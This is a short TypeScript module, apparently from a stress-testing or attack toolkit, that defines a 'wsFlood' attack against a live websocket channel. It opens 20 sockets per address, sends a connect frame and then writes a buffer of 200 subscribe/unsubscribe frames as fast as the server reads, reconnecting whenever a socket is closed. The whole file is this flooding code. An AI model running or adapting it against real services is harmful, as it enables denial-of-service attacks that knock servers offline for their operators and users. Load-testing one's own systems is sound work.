import type { Attack } from './attack.ts';
import { attackLiveChannel } from './live-attack.ts';
import { CONNECT, UNSUBSCRIBE, subscribeFrame } from './live-socket.ts';

const flood = Buffer.concat(Array.from({ length: 200 }, () => [subscribeFrame('0'), UNSUBSCRIBE]).flat());

/** Connections subscribe and unsubscribe as fast as the server reads, and connect again when they are closed. */
export const wsFlood: Attack = (options) =>
  attackLiveChannel(options, {
    socketsPerAddress: 20,
    use(socket, { isOver }) {
      const write = (): void => {
        while (!isOver() && !socket.destroyed && socket.write(flood));
      };
      socket.write(CONNECT);
      socket.on('drain', write);
      write();
    },
  });
